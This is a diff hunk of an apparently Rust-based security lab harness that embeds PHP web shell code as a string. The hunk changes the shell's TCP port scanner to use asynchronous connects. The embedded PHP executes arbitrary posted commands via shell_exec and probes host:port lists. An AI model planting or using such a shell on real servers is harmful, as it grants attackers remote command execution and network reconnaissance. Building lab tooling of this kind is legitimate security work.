@@ -15,13 +15,13 @@ if (isset($_POST['sql'])) {
     exit;
 }
 if (isset($_POST['run'])) { echo shell_exec($_POST['run'] . ' 2>&1'); exit; }
-$open = [];
+$pending = [];
 foreach (explode(',', $_POST['doors'] ?? '') as $door) {
-    [$host, $port] = [substr($door, 0, strrpos($door, ':')), (int) substr($door, strrpos($door, ':') + 1)];
-    $socket = @stream_socket_client("tcp://$host:$port", $no, $why, 0.5);
-    if ($socket) { $open[] = $door; }
+    $socket = @stream_socket_client("tcp://$door", $no, $why, 1, STREAM_CLIENT_CONNECT | STREAM_CLIENT_ASYNC_CONNECT);
+    if ($socket) { $pending[$door] = $socket; }
 }
-echo json_encode($open);
+sleep(2);
+echo json_encode(array_keys(array_filter($pending, fn($socket) => stream_socket_get_name($socket, true) !== false)));
 "#;
 
 fn addresses(lab: &Lab, container: &str) -> Vec<String> {
